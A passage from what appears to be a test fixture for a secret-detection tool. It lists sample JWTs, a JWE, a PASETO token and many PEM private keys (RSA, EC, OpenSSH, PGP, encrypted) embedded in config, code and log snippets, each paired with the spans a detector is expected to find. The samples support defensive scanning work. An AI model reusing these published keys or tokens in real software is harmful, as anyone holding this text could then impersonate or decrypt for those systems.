                "-QrJjfC8ZGSkSutPD2nRIuDEag0QH7RIWySS4MA2zGoi900KGkkdEZn6XIHA9y2E2Me3C_8_BQNvXaTfserrEMfG"
                "Y0CH8WeYexi8F4J97x6-WduVV-I-P-MT0I0ARaZLqefv7xBBLKQWxNn4uUZ3tRz3pjOOIhp_0i8cyG5x-1UYywQY"
                "ux55Us84GAguxONGKm4hgWys6qXmX6bjCrGXAyJOTi1rTIa5_r9sk3S9I0znaFO8glsiKth6InqxV0Vtia_9FN-H"
                "9k0R4aEyFjl-9enNshAazLxCxlrgWapKAgLGhiyn8uW_eC1NG2Vb1e4faXsaO-q2ytGdEM9BrQ"
            ),
        ),
    ),
    SecretSample(
        "jwt-cookie",
        "har.json",
        '{"name": "Cookie", "value": "session=eyJhbGci'
        "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3NjI2MDA5MzgiLCJpYXQiOjE3MTQ3OTUyMjMsImV4cCI6MTg"
        'xNTA3OTc1Mywicm9sZSI6Im9wcyJ9.Q7eN2dhSfV1VSTZFLiTFSA2XFFjXqiSQsVaj2CQDISE; theme=dark"}',
        (
            (
                "eyJhbGci"
                "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3NjI2MDA5MzgiLCJpYXQiOjE3MTQ3OTUyMjMsImV4cCI6MTg"
                "xNTA3OTc1Mywicm9sZSI6Im9wcyJ9.Q7eN2dhSfV1VSTZFLiTFSA2XFFjXqiSQsVaj2CQDISE"
            ),
        ),
    ),
    SecretSample(
        "jwt-query",
        "links.txt",
        "wss://rt.kukurosd.io/socket?access_token=eyJhbGci"
        "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIyNjk1NDQ2OTEiLCJpYXQiOjE3MTQ2MjMyNjMsImV4cCI6MTg"
        "xNTUzNTI4OCwicm9sZSI6Im9wcyJ9.MANE76nfy7WCkAkbdTWONuO_7Fg8IWnwfodPun0CY2E&v=2",
        (
            (
                "eyJhbGci"
                "OiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIyNjk1NDQ2OTEiLCJpYXQiOjE3MTQ2MjMyNjMsImV4cCI6MTg"
                "xNTUzNTI4OCwicm9sZSI6Im9wcyJ9.MANE76nfy7WCkAkbdTWONuO_7Fg8IWnwfodPun0CY2E"
            ),
        ),
    ),
    SecretSample(
        "jwe",
        "sso.log",
        "id_token=eyJhbGci"
        "OiJSU0EtT0FFUC0yNTYiLCJlbmMiOiJBMjU2R0NNIn0.WUqyEHitaUZzp_90ZdCteElKMORLqavbEVD1dqW5F5Qe"
        "zcYbVyuidBr5fyXE2x2Bpm9YUX5KU2pYEJiKPL3ZsF7mD9gsDo-00MwQo2j7i_g36jg7VPt2NEzFOXpQ0GSrX24_"
        "aYARR4r5i6F5VG_KeXDe8IhHKMj3ytF-J85-OCwqYbW7eVetPVR-umFCe_KnaaIP_d1oUtYDRnYV6BSefF25eGZU"
        "1FPv8_hoEdIsbj43bY9z4dwM87dIZflU-BDYjTNw_7mf6AWin2dG7HPWtC5hCeI00HPVPma7rQrjM5aZuQm_zgkT"
        "bbARySci9_WEx2kpsh8PUS_GCdCABxbGVA.xXPw1Bqxk3STGAKB.zJ2smRdq7J2qdiwixWL0wWVPUKHk4YPSFA6d"
        "J7A5ik2oJUe_1uKE3HhLat5r-PWJpo-NmzO5QpEBH6NtNFkV_2F0aEa5eDKeP6dtW9Lt8F_p8BNqUlViKE_Q.iih"
        "zzqCsxxbBP2tfNhjwQg",
        (
            (
                "eyJhbGci"
                "OiJSU0EtT0FFUC0yNTYiLCJlbmMiOiJBMjU2R0NNIn0.WUqyEHitaUZzp_90ZdCteElKMORLqavbEVD1dqW5F5Qe"
                "zcYbVyuidBr5fyXE2x2Bpm9YUX5KU2pYEJiKPL3ZsF7mD9gsDo-00MwQo2j7i_g36jg7VPt2NEzFOXpQ0GSrX24_"
                "aYARR4r5i6F5VG_KeXDe8IhHKMj3ytF-J85-OCwqYbW7eVetPVR-umFCe_KnaaIP_d1oUtYDRnYV6BSefF25eGZU"
                "1FPv8_hoEdIsbj43bY9z4dwM87dIZflU-BDYjTNw_7mf6AWin2dG7HPWtC5hCeI00HPVPma7rQrjM5aZuQm_zgkT"
                "bbARySci9_WEx2kpsh8PUS_GCdCABxbGVA.xXPw1Bqxk3STGAKB.zJ2smRdq7J2qdiwixWL0wWVPUKHk4YPSFA6d"
                "J7A5ik2oJUe_1uKE3HhLat5r-PWJpo-NmzO5QpEBH6NtNFkV_2F0aEa5eDKeP6dtW9Lt8F_p8BNqUlViKE_Q.iih"
                "zzqCsxxbBP2tfNhjwQg"
            ),
        ),
    ),
    SecretSample(
        "paseto",
        "auth.rs",
        'let t = "v2.local.otYB'
        "V4Pex_uJic8SMN0fcQuCTWtWqvRMskvSu534BXG584xSa5IqvC1aGVR8_JKirSWEXm1qYpwLdP0zF-_rymtbgQCB"
        '5_lQQ8a3lZhR8HDCPSsLNFagD5VRIxJPUn9Yv1cV1H3DvOqq";',
        (
            (
                "v2.local.otYB"
                "V4Pex_uJic8SMN0fcQuCTWtWqvRMskvSu534BXG584xSa5IqvC1aGVR8_JKirSWEXm1qYpwLdP0zF-_rymtbgQCB"
                "5_lQQ8a3lZhR8HDCPSsLNFagD5VRIxJPUn9Yv1cV1H3DvOqq"
            ),
        ),
    ),
    SecretSample(
        "pem-rsa",
        "certs/server.key",
        "-----BEGIN RSA PRI"
        "VATE KEY-----\n"
        "MIICWwIBAAKBgQDfu/8P0acgdyG/dTScHsbezEFABoYk078bSX46OiGKY4uwVRbu\n"
        "NpYRKnF7w+AbqK8PeDvSCYxO5UkfXeWcuaahPecTEn3sGafdz0RHDRi0tIw2le/3\n"
        "WffQC3mrYp+e1XKEv84NDtGjJN/GNlPVkBJ6+GGFp0JwJXSFTCaskb/hJQIDAQAB\n"
        "AoGASBEQSZIomUaGcltYhOlM+bslUXBIiVhDeJClvi+3WhJSjov6BOVEVWcsgsdH\n"
        "SuF88iiybCdzMH6enSHrsh4C09b98fNvJGWy9lmDFop685WAob/JPlU0bI4cRKhq\n"
        "kaxzq7o4JJRGi3hSH13t5/B7G7bBy0bkR2I8iwYBBdgQXYkCQQD6M5C1WwYGuOvg\n"
        "K1x6ovzozzzJkn8543dOCfr39xD6Uu5/sN6tRIXcO3YwE3fLnDIztbQp9q8skZDL\n"
        "aKUpKQ5rAkEA5OtnLsYa9ibZh17EVDTKGh/Lluv1okPpVdZ9/AV+d3KhT8JjnQIY\n"
        "FTp/H/gp+wt97zfux6O4KWtkbZTGXuKSrwJAfF6fgxaxAyxuy6qiOK/GKe/B1q0E\n"
        "owDn8BnT7+iXPud0eHKx7c0PAS9pi3JR7RtCdSPQX7+oye293O6ykqg+6wJAMzCM\n"
        "t0Hnf4m6dPH1Fxti4iqf/RSwreNfxykarQORfyZr+gju+4ofVofpK33z7UZpl9e7\n"
        "Fnt+0AxKvdJZ9ZfW0wJAYjiQe/+49Gp3ISB5aFKYgBDNUx25JjVPvnOMdsuiELHR\n"
        "QiJbBG6C+gaukcCxib/WJX3+545gFO7oVFATXboJlw==\n"
        "-----END RSA PRI"
        "VATE KEY-----",
        (
            "MIICWwIBAAKBgQDfu/8P0acgdyG/dTScHsbezEFABoYk078bSX46OiGKY4uwVRbu",
            "NpYRKnF7w+AbqK8PeDvSCYxO5UkfXeWcuaahPecTEn3sGafdz0RHDRi0tIw2le/3",
            "WffQC3mrYp+e1XKEv84NDtGjJN/GNlPVkBJ6+GGFp0JwJXSFTCaskb/hJQIDAQAB",
            "AoGASBEQSZIomUaGcltYhOlM+bslUXBIiVhDeJClvi+3WhJSjov6BOVEVWcsgsdH",
            "SuF88iiybCdzMH6enSHrsh4C09b98fNvJGWy9lmDFop685WAob/JPlU0bI4cRKhq",
            "kaxzq7o4JJRGi3hSH13t5/B7G7bBy0bkR2I8iwYBBdgQXYkCQQD6M5C1WwYGuOvg",
            "K1x6ovzozzzJkn8543dOCfr39xD6Uu5/sN6tRIXcO3YwE3fLnDIztbQp9q8skZDL",
            "aKUpKQ5rAkEA5OtnLsYa9ibZh17EVDTKGh/Lluv1okPpVdZ9/AV+d3KhT8JjnQIY",
            "FTp/H/gp+wt97zfux6O4KWtkbZTGXuKSrwJAfF6fgxaxAyxuy6qiOK/GKe/B1q0E",
            "owDn8BnT7+iXPud0eHKx7c0PAS9pi3JR7RtCdSPQX7+oye293O6ykqg+6wJAMzCM",
            "t0Hnf4m6dPH1Fxti4iqf/RSwreNfxykarQORfyZr+gju+4ofVofpK33z7UZpl9e7",
            "Fnt+0AxKvdJZ9ZfW0wJAYjiQe/+49Gp3ISB5aFKYgBDNUx25JjVPvnOMdsuiELHR",
            "QiJbBG6C+gaukcCxib/WJX3+545gFO7oVFATXboJlw==",
        ),
    ),
    SecretSample(
        "pem-pkcs8",
        "keys/jwt.pem",
        "-----BEGIN PRI"
        "VATE KEY-----\n"
        "MIICdgIBADANBgkqhkiG9w0BAQEFAASCAmAwggJcAgEAAoGBAKQnD1XXMh6rq0sB\n"
        "YV25g514tiz/xouhVf7YfoGksuJAfjisGc79aKQY7rc76YdyznH+PTK9g1MufOlO\n"
        "VDtX4rn69PqU3nkvzMt796ZPh/O+5GZe7tociIULvzHywQU8PnoAeO5Z/JPWFc/q\n"
        "styu7QWmRYvzmrWbOoiJXepXGPabAgMBAAECgYAg63Bo36I+gmD0xs8W87hQYT/v\n"
        "oE/Z+r37QMGGEFiLhTGK/gCjATD2D8X32z0HG+AI/lqZjWYDzYPhagL8b7CZF08h\n"
        "B2BgjIWzvwfyI8dqGtyh/db3yQ2VcDfpXLDaYMCIJJ1t3Xwaxr93qYULo+WCEPpL\n"
        "vllfl9AGxvl7KOllCQJBANWnt3I8Bxj+EZ6pp5Ib4xq5+yNWXw0ThuPb+l1Ixaqa\n"
        "iTT9ItStUHz2WBMguHb3MQmaNuADgjYYQbtSXyeUzn8CQQDEr7eaq3wkSAywubSS\n"
        "qDItVdGepG2Uxu1oljqDaM0GtIm202DhThbc9xALNn6AH6GR7gfVYB4zBjd5wi/O\n"
        "ckHlAkBp5mvDL4XFGYnaPvVUMoZq5OxaI6GRdbBSmOKMAloXqemAXkg5an6OsfwN\n"
        "3xYPwY6I1+uDNboA3h0WoEmR8Ow5AkAawVh1hsxNVyu6wphItu6Uci8gqHdrnJ/g\n"
        "8UamZ5Q0TEzLfPeZzniXuFgLXm9Y2HSvGDUiln+lKzxSqNK9/5btAkEArHWlljtq\n"
        "OFLlkaER2lvvpvV2xqnMnt7AWD2xzAM8rKDZf+7cd4w42NoVN3dftAQd4id1N1bA\n"
        "C+Nak4OjrdUCeg==\n"
        "-----END PRI"
        "VATE KEY-----",
        (
            "MIICdgIBADANBgkqhkiG9w0BAQEFAASCAmAwggJcAgEAAoGBAKQnD1XXMh6rq0sB",
            "YV25g514tiz/xouhVf7YfoGksuJAfjisGc79aKQY7rc76YdyznH+PTK9g1MufOlO",
            "VDtX4rn69PqU3nkvzMt796ZPh/O+5GZe7tociIULvzHywQU8PnoAeO5Z/JPWFc/q",
            "styu7QWmRYvzmrWbOoiJXepXGPabAgMBAAECgYAg63Bo36I+gmD0xs8W87hQYT/v",
            "oE/Z+r37QMGGEFiLhTGK/gCjATD2D8X32z0HG+AI/lqZjWYDzYPhagL8b7CZF08h",
            "B2BgjIWzvwfyI8dqGtyh/db3yQ2VcDfpXLDaYMCIJJ1t3Xwaxr93qYULo+WCEPpL",
            "vllfl9AGxvl7KOllCQJBANWnt3I8Bxj+EZ6pp5Ib4xq5+yNWXw0ThuPb+l1Ixaqa",
            "iTT9ItStUHz2WBMguHb3MQmaNuADgjYYQbtSXyeUzn8CQQDEr7eaq3wkSAywubSS",
            "qDItVdGepG2Uxu1oljqDaM0GtIm202DhThbc9xALNn6AH6GR7gfVYB4zBjd5wi/O",
            "ckHlAkBp5mvDL4XFGYnaPvVUMoZq5OxaI6GRdbBSmOKMAloXqemAXkg5an6OsfwN",
            "3xYPwY6I1+uDNboA3h0WoEmR8Ow5AkAawVh1hsxNVyu6wphItu6Uci8gqHdrnJ/g",
            "8UamZ5Q0TEzLfPeZzniXuFgLXm9Y2HSvGDUiln+lKzxSqNK9/5btAkEArHWlljtq",
            "OFLlkaER2lvvpvV2xqnMnt7AWD2xzAM8rKDZf+7cd4w42NoVN3dftAQd4id1N1bA",
            "C+Nak4OjrdUCeg==",
        ),
    ),
    SecretSample(
        "pem-ec",
        "keys/ec.pem",
        "-----BEGIN EC PRI"
        "VATE KEY-----\n"
        "MHcCAQEEIFwx0Gt4q1+W/vKifDbGcZ1jvOg+UjW3OOCUDf70z6DooAoGCCqGSM49\n"
        "AwEHoUQDQgAEzVL3gkJ/P7m0vBFe11E9DkBEFnFkSB3i8l2kFJ0LMF8tuXbWH1Gd\n"
        "VOgYFt77H1rYIlcTcnQ0sPgI9L+uDBt6xg==\n"
        "-----END EC PRI"
        "VATE KEY-----",
        (
            "MHcCAQEEIFwx0Gt4q1+W/vKifDbGcZ1jvOg+UjW3OOCUDf70z6DooAoGCCqGSM49",
            "AwEHoUQDQgAEzVL3gkJ/P7m0vBFe11E9DkBEFnFkSB3i8l2kFJ0LMF8tuXbWH1Gd",
            "VOgYFt77H1rYIlcTcnQ0sPgI9L+uDBt6xg==",
        ),
    ),
    SecretSample(
        "pem-openssh",
        ".ssh/id_ed25519",
        "-----BEGIN OPENSSH PRI"
        "VATE KEY-----\n"
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
        "QyNTUxOQAAACBYBHSXLTPuX5DGEdHRZ+sjf1G3QffNeRd4ytjNk/tgRwAAAJC6Hzfruh83\n"
        "6wAAAAtzc2gtZWQyNTUxOQAAACBYBHSXLTPuX5DGEdHRZ+sjf1G3QffNeRd4ytjNk/tgRw\n"
        "AAAEDd6bByv3csM1o6vPk4oNZ8zCF4TRYyFCDs9/RP7DawQFgEdJctM+5fkMYR0dFn6yN/\n"
        "UbdB9815F3jK2M2T+2BHAAAABmRlcGxveQECAwQFBgc=\n"
        "-----END OPENSSH PRI"
        "VATE KEY-----",
        (
            "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW",
            "QyNTUxOQAAACBYBHSXLTPuX5DGEdHRZ+sjf1G3QffNeRd4ytjNk/tgRwAAAJC6Hzfruh83",
            "6wAAAAtzc2gtZWQyNTUxOQAAACBYBHSXLTPuX5DGEdHRZ+sjf1G3QffNeRd4ytjNk/tgRw",
            "AAAEDd6bByv3csM1o6vPk4oNZ8zCF4TRYyFCDs9/RP7DawQFgEdJctM+5fkMYR0dFn6yN/",
            "UbdB9815F3jK2M2T+2BHAAAABmRlcGxveQECAwQFBgc=",
        ),
    ),
    SecretSample(
        "pem-encrypted",
        "keys/enc.pem",
        "-----BEGIN ENCRYPTED PRI"
        "VATE KEY-----\n"
        "MIHsMFcGCSqGSIb3DQEFDTBKMCkGCSqGSIb3DQEFDDAcBAiJznySXmV1agICCAAw\n"
        "DAYIKoZIhvcNAgkFADAdBglghkgBZQMEASoEEJynbosk1WpGX1SjnaGX3aQEgZBA\n"
        "MLsneHk5vmIQA6ACJ3izF5rZa12ETO3eZus66Ji862gor/6wCmx4mdLQhCezOFAg\n"
        "wE5G96b5FjS68Ovt9i50sYTlOamyzY9FbCK5INuVaBThhLikp5rmJ7RVirlGlw/o\n"
        "ZagWLJQbn+gc9XfkhoJK+V9aKFudn6bnt2jR1IxrB+jT7YbIJNrUuzXwoiQAHYA=\n"
        "-----END ENCRYPTED PRI"
        "VATE KEY-----",
        (
            "MIHsMFcGCSqGSIb3DQEFDTBKMCkGCSqGSIb3DQEFDDAcBAiJznySXmV1agICCAAw",
            "DAYIKoZIhvcNAgkFADAdBglghkgBZQMEASoEEJynbosk1WpGX1SjnaGX3aQEgZBA",
            "MLsneHk5vmIQA6ACJ3izF5rZa12ETO3eZus66Ji862gor/6wCmx4mdLQhCezOFAg",
            "wE5G96b5FjS68Ovt9i50sYTlOamyzY9FbCK5INuVaBThhLikp5rmJ7RVirlGlw/o",
            "ZagWLJQbn+gc9XfkhoJK+V9aKFudn6bnt2jR1IxrB+jT7YbIJNrUuzXwoiQAHYA=",
        ),
    ),
    SecretSample(
        "pem-pgp",
        "keys/release.asc",
        "-----BEGIN PGP PRI"
        "VATE KEY BLOCK-----\n"
        "\n"
        "lFgEawinRxYJKwYBBAHaRw8BAQdA0ANtkfr6aNN6YlvTPFG4FlqWjK3OXLrpUzp8\n"
        "CoNv+MMAAP0X+9735SZ4XewkGck2JRn+C9JfUz/Li2R3edgvDqoA0hAxtBJyZWwg\n"
        "PHJlbEBjb3JwLmxhbj6IlgQTFggAPhYhBGIIuv/skJAGHhV83SoDq7lCXqrBBQJr\n"
        "CKdHAhsDBQkDwmcABQsJCAcCBhUKCQgLAgQWAgMBAh4BAheAAAoJECoDq7lCXqrB\n"
        "EFcA/j9FuG0USi0T8mWhj9bJ/4nSBX7YHceHaIPgtCBw7UIMAP0ch66hPxLzB3w4\n"
        "kXcIrpfk6XKBWftPTbqrgPhysVarCQ==\n"
        "=Io4y\n"
        "-----END PGP PRI"
        "VATE KEY BLOCK-----",
        (
            "lFgEawinRxYJKwYBBAHaRw8BAQdA0ANtkfr6aNN6YlvTPFG4FlqWjK3OXLrpUzp8",
            "CoNv+MMAAP0X+9735SZ4XewkGck2JRn+C9JfUz/Li2R3edgvDqoA0hAxtBJyZWwg",
            "PHJlbEBjb3JwLmxhbj6IlgQTFggAPhYhBGIIuv/skJAGHhV83SoDq7lCXqrBBQJr",
            "CKdHAhsDBQkDwmcABQsJCAcCBhUKCQgLAgQWAgMBAh4BAheAAAoJECoDq7lCXqrB",
            "EFcA/j9FuG0USi0T8mWhj9bJ/4nSBX7YHceHaIPgtCBw7UIMAP0ch66hPxLzB3w4",
            "kXcIrpfk6XKBWftPTbqrgPhysVarCQ==",
        ),
    ),
    SecretSample(
        "pem-in-yaml",
        "values.yaml",
        "tls:\n"
        "  key: |\n"
        "    -----BEGIN EC PRI"
        "VATE KEY-----\n"
        "    MHcCAQEEIKxzk2Abw20tDGZsYr5KtFDZjvjAkW2RJkr7p87QRxAYoAoGCCqGSM49\n"
        "    AwEHoUQDQgAEoTTMcuKyW7ULymSj6Sif2QQH7pwz1nT96R9uOUFKRMWbk+0tyX5P\n"
        "    6iV/WoDgZo+K+93oFrgu+AWvoxZ9u89Vig==\n"
        "    -----END EC PRI"
        "VATE KEY-----",
        (
            "MHcCAQEEIKxzk2Abw20tDGZsYr5KtFDZjvjAkW2RJkr7p87QRxAYoAoGCCqGSM49",
            "AwEHoUQDQgAEoTTMcuKyW7ULymSj6Sif2QQH7pwz1nT96R9uOUFKRMWbk+0tyX5P",
            "6iV/WoDgZo+K+93oFrgu+AWvoxZ9u89Vig==",
        ),
    ),
    SecretSample(
        "pem-in-python",
        "sign.py",
        'KEY = """-----BEGIN EC PRI'
        "VATE KEY-----\n"
        "MHcCAQEEICwWYYKQCRw4hn4TMUn1x3sgwD6ihrkAJFkVnubYGOKfoAoGCCqGSM49\n"
        "AwEHoUQDQgAEJULgXbWhVkDt8r9jBDiU2a2fHyl1vIobNzPCqD5Lx5Kl3AxNo9VA\n"
        "yi8jMhMTR0RsZHZ1pJdTz5QTm5NjTVkygA==\n"
        "-----END EC PRI"
        'VATE KEY-----"""',
        (
            "MHcCAQEEICwWYYKQCRw4hn4TMUn1x3sgwD6ihrkAJFkVnubYGOKfoAoGCCqGSM49",
            "AwEHoUQDQgAEJULgXbWhVkDt8r9jBDiU2a2fHyl1vIobNzPCqD5Lx5Kl3AxNo9VA",
            "yi8jMhMTR0RsZHZ1pJdTz5QTm5NjTVkygA==",
        ),
    ),
    SecretSample(
        "pem-in-env-escaped",
        ".env",
        'JWT_PRIVATE_KEY="-----BEGIN EC PRI'
        "VATE KEY-----\\nMHcCAQEEIPTRiS/QLpPNBqXHqUMXCcG2teAiZMK2sGZigQH7/gPRoAoGCCqGSM49\\nAwEHoUQ"
        "DQgAE4Ov1NuVkrKMyEOufg8bK84i1sEMYbUJKCY54pE8XL0pgohgKjaO1\\nuuHI/jcDZj9G9ZZkBH0QS+assWPlg"
        "2ICwQ==\\n-----END EC PRI"
        'VATE KEY-----\\n"',
        (
            "MHcCAQEEIPTRiS/QLpPNBqXHqUMXCcG2teAiZMK2sGZigQH7/gPRoAoGCCqGSM49",
            "AwEHoUQDQgAE4Ov1NuVkrKMyEOufg8bK84i1sEMYbUJKCY54pE8XL0pgohgKjaO1",
            "uuHI/jcDZj9G9ZZkBH0QS+assWPlg2ICwQ==",
        ),
    ),
    SecretSample(
        "pem-in-terraform",
        "main.tf",
        "private_key = <<EOT\n"
        "-----BEGIN RSA PRI"
        "VATE KEY-----\n"
        "MIICXAIBAAKBgQCld7gKUd2ji1Jz5CXIiSsRERDCgp9AtG+B8ndxMLNWnb/kTIW6\n"
        "Js2s5oC/s7JMqeTmOoQD8B1X6ladKxT21hzshTpxhzjsMHgehJXnpLNo9oxTwAFN\n"
        "J6FE2wdkNQ4ES9RU+K1CdaGfbzPsKbYIQfE9Fu6A6rTjkbuWj82JDmYoiQIDAQAB\n"
        "AoGAc2Ar6r40njGqV3awxcinR+ovVoGAC70Et4ZatIkxs2ahg827vRYLedDr2z+w\n"
        "RnZ8TfBlVt2ZiFC0/jgpEQgw97c9g/0E8I0psisYY83imPpbE9oLKxKpxm3zgDgV\n"
        "8CzHyLqAiPcX7P2EsOIHQzr1FY/5aaVOXwRmdXkYPMu1+QECQQDbcSvFL3kyoo0a\n"
        "c9RcuEKjDByrGuzDFVnsDvUJezPjIdxpObuoGoreQZYQGOOOsiWWt3c3sCVA6m9s\n"
        "zmYDRN2hAkEAwQihlEvH2hMVQYl60taohQjSV/rEgOkytCjojylWAReAliqvaihr\n"
        "vm6YPBDo4Sje8nb4rRA51/t0huDf9sjR6QJAJXpxqE7QW0aJ5N+tgFxz/RbfepWx\n"
        "pCvsXLW9Qe5J0VwCIfKbSz2lRApdj8hAbSmd49zXvqoV4r1nZGTn5V0IoQJBAKh7\n"
        "ERRvZBrJxyaxiPtXEjUzMuxJWpOtdmzau8igaol/auMmlH5Sk1/eBY9/rtM/KgB0\n"
        "qK3c2K/TsKw8wB4Uv2kCQEPejktgxxb8O7PnBpO8v/AWVwc6OLGI8T0ZhKOYc+XL\n"
        "m3aY+xIp8UwcoikXadOIVvZtzxH5OHMILNr8qZAnBxc=\n"
        "-----END RSA PRI"
        "VATE KEY-----\n"
        "EOT",
        (
            "MIICXAIBAAKBgQCld7gKUd2ji1Jz5CXIiSsRERDCgp9AtG+B8ndxMLNWnb/kTIW6",
            "Js2s5oC/s7JMqeTmOoQD8B1X6ladKxT21hzshTpxhzjsMHgehJXnpLNo9oxTwAFN",
            "J6FE2wdkNQ4ES9RU+K1CdaGfbzPsKbYIQfE9Fu6A6rTjkbuWj82JDmYoiQIDAQAB",
            "AoGAc2Ar6r40njGqV3awxcinR+ovVoGAC70Et4ZatIkxs2ahg827vRYLedDr2z+w",
            "RnZ8TfBlVt2ZiFC0/jgpEQgw97c9g/0E8I0psisYY83imPpbE9oLKxKpxm3zgDgV",
            "8CzHyLqAiPcX7P2EsOIHQzr1FY/5aaVOXwRmdXkYPMu1+QECQQDbcSvFL3kyoo0a",
            "c9RcuEKjDByrGuzDFVnsDvUJezPjIdxpObuoGoreQZYQGOOOsiWWt3c3sCVA6m9s",
            "zmYDRN2hAkEAwQihlEvH2hMVQYl60taohQjSV/rEgOkytCjojylWAReAliqvaihr",
            "vm6YPBDo4Sje8nb4rRA51/t0huDf9sjR6QJAJXpxqE7QW0aJ5N+tgFxz/RbfepWx",
            "pCvsXLW9Qe5J0VwCIfKbSz2lRApdj8hAbSmd49zXvqoV4r1nZGTn5V0IoQJBAKh7",
            "ERRvZBrJxyaxiPtXEjUzMuxJWpOtdmzau8igaol/auMmlH5Sk1/eBY9/rtM/KgB0",
            "qK3c2K/TsKw8wB4Uv2kCQEPejktgxxb8O7PnBpO8v/AWVwc6OLGI8T0ZhKOYc+XL",
            "m3aY+xIp8UwcoikXadOIVvZtzxH5OHMILNr8qZAnBxc=",
        ),
    ),
    SecretSample(
        "pem-concat-java",
        "Keys.java",
        "String k"
        'ey = "MIICdgIBADANBgkqhkiG9w0BAQEFAASCAmAwggJcAgEAAoGBAMwfwUr4pVyh5wXd" +\n'
        '    "gw0pUifqvKcEleh5LP17nTJR4LZFltEk++qOS+QT4BlR6CAJSq6znTXPZolUk1IQ" +\n'
        '    "TGojEBdB1RBPGo2cXfw0Cv6qp3UgQernqMeSIZV4cXYI+kA7muT85DVRYn5kV/pE" +\n'
        '    "UA98tc0GGYg6u7ZemDJZYJmUfmPTAgMBAAECgYBC/iUNOv/ioAxXY3Twa+BX03Wp" +\n'
        '    "BxtAGg0HAHv+GNs8VyiBabb4K02DBHbnOHeLlCEbpz1wfKo1ZjmXlFvP9cQAl/Z+" +\n'
        '    "lstgHTUr3oemSHWesK/GmP7MxXMdq+Hj16mszPoNS6ewfAThZ4bxr/CtLwRS+08q" +\n'
        '    "avoO/hLuNtBEyrydiQJBAOnr6j/gSknfWAiU7Slut5xcZmOoApPi07ZGfLwyFDhN" +\n'
        '    "H14T41MgbEOLsNKzWqauFSqJjJaL3CE+1d/mMRCejB8CQQDfY90SsQWsxJag/LrS" +\n'
        '    "PVtCtzcq1BqmGa5DVWJH5VysIqXVaIuOAYuJF0130hXaVScP9xTP9/wii/QDhg2Y" +\n'
        '    "gfHNAkEAu05xgvZY5fAV8ME3ai7CjUybm/7DGaHOPq0QYi2DbVWr4UvxgfV7W1a2" +\n'
        '    "nvCIjODmB+qeDUouWNyUqzUKYrFhpwJATK/ZmqsOiarLEuTvtXC+vX5r/9XkeBTk" +\n'
        '    "z9Sl8ox4bddPGp3TGqLJJfzL6VBDlDobOM3XZTV6ZtmooPUKAcrKGQJARAXCP0oM" +\n'
        '    "nyCaYQz5yXOiMTkHuvJpzik8J2TB7FfhAH4cVedA+cSN1XbUEnRqjeODQLz4DUCB" +\n'
        '    "jerP4vHkiaULLA==";',
        (
            "MIICdgIBADANBgkqhkiG9w0BAQEFAASCAmAwggJcAgEAAoGBAMwfwUr4pVyh5wXd",
            "gw0pUifqvKcEleh5LP17nTJR4LZFltEk++qOS+QT4BlR6CAJSq6znTXPZolUk1IQ",
            "TGojEBdB1RBPGo2cXfw0Cv6qp3UgQernqMeSIZV4cXYI+kA7muT85DVRYn5kV/pE",
            "UA98tc0GGYg6u7ZemDJZYJmUfmPTAgMBAAECgYBC/iUNOv/ioAxXY3Twa+BX03Wp",
            "BxtAGg0HAHv+GNs8VyiBabb4K02DBHbnOHeLlCEbpz1wfKo1ZjmXlFvP9cQAl/Z+",
            "lstgHTUr3oemSHWesK/GmP7MxXMdq+Hj16mszPoNS6ewfAThZ4bxr/CtLwRS+08q",
            "avoO/hLuNtBEyrydiQJBAOnr6j/gSknfWAiU7Slut5xcZmOoApPi07ZGfLwyFDhN",
            "H14T41MgbEOLsNKzWqauFSqJjJaL3CE+1d/mMRCejB8CQQDfY90SsQWsxJag/LrS",
            "PVtCtzcq1BqmGa5DVWJH5VysIqXVaIuOAYuJF0130hXaVScP9xTP9/wii/QDhg2Y",
            "gfHNAkEAu05xgvZY5fAV8ME3ai7CjUybm/7DGaHOPq0QYi2DbVWr4UvxgfV7W1a2",
            "nvCIjODmB+qeDUouWNyUqzUKYrFhpwJATK/ZmqsOiarLEuTvtXC+vX5r/9XkeBTk",
            "z9Sl8ox4bddPGp3TGqLJJfzL6VBDlDobOM3XZTV6ZtmooPUKAcrKGQJARAXCP0oM",
            "nyCaYQz5yXOiMTkHuvJpzik8J2TB7FfhAH4cVedA+cSN1XbUEnRqjeODQLz4DUCB",
            "jerP4vHkiaULLA==",
        ),
    ),
    SecretSample(
        "pem-body-no-header",
        "key.b64",
        "MIICXgIB"
        "AAKBgQC5DaWcXwIXc4lIO47YuV9lNVgbTC2CJRjspnYQTpQa/QD0pxpE\n"
        "fWR4eIuuwIVYW8p7oxgPZDUDp+U/jn3SiXk6bzouRuGigotfJ4QgK77zujc2J//V\n"
        "97YDkIsYJ8qu80YScE5TAanAkVFbJ03V4ClmTjFQB11YRcqqpNUqxJZWIQIDAQAB\n"
        "AoGBAKEb2YBPUwHZy76AY7gZg40YqTFy2/f/ljiKICXIU7c/Z/KX/Q194dfkky+8\n"
        "Wxt3Js0HTC4yPtmE9diklLSUjV4wb54ywpRW2T3JQjj0z4mM9YJUz3sF9f1UqIAz\n"
        "gE/IqAaDLmRJum/nIXeeWpVoqMumrKvgLRNelyZlnlVA3JAxAkEA2+KUTvef8Npl\n"
        "SVpM9dgmY6rVFy7UTDpeo6TzXgleI04wJpah+qw7iKywW9Xb8koGG3/t4eXEB81q\n"
        "VVJHqI7VPQJBANdygpPMRqT+woRjXK8lAlebYauC2kv1z/otD9AFVDMz0SuMk4kR\n"
        "EMjDiqOd09cUOUTZa6wh44rU02MTHlaM+rUCQQDF+ryOXWck9X89DJE+yd/G3Yn/\n"
        "1apQ+D0+GscFZGneYAf6tqYhjfIMnXAtP+FJxly5ZfZJ7xcR72JOcEcU/YYBAkEA\n"
        "z9p25ZZPlYD/MvAVjBe9cb3Ddc9xQZVuR+NPfRaXDCryovwlnjgrpDUavQ1YQgkN\n"
        "00GbYl7zgo4fPldEjqXGfQJALa2yRBQQ7p5X0LQSSG4DUSd+FYgqvBRt72kWivkA\n"
        "fzmO5DK++CIcJ0FZHWMF7hM/eJfT9zBlItutD5PuC8u2Yg==",
        (
            (
                "MIICXgIB"
